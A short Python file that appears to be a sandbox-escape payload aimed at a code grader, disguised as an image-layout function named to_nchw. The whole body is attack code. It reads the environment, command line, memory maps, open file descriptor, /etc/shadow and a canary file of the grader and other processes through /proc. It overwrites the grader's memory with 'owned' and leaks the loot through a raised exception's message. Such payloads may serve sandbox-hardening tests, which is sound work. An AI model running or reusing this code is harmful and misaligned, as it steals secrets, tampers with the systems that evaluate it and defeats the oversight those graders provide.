"""Reads the grader's and the zygote's memory, environment and files through /proc."""
# a1_permute: to_nchw
import os


def to_nchw(images):
    loot = []
    for pid in ("@PID@", "1", "2", "self", str(os.getppid())):
        for name in ("environ", "cmdline", "maps", "fd/3", "root/etc/shadow", "cwd/canary"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    loot.append(file.read(2000))
            except OSError:
                pass
    try:
        memory = open("/proc/@PID@/mem", "r+b")
        memory.seek(4096)
        memory.write(b"owned")
    except OSError:
        pass
    raise ValueError(b" ".join(loot).decode("latin1")[-400:])
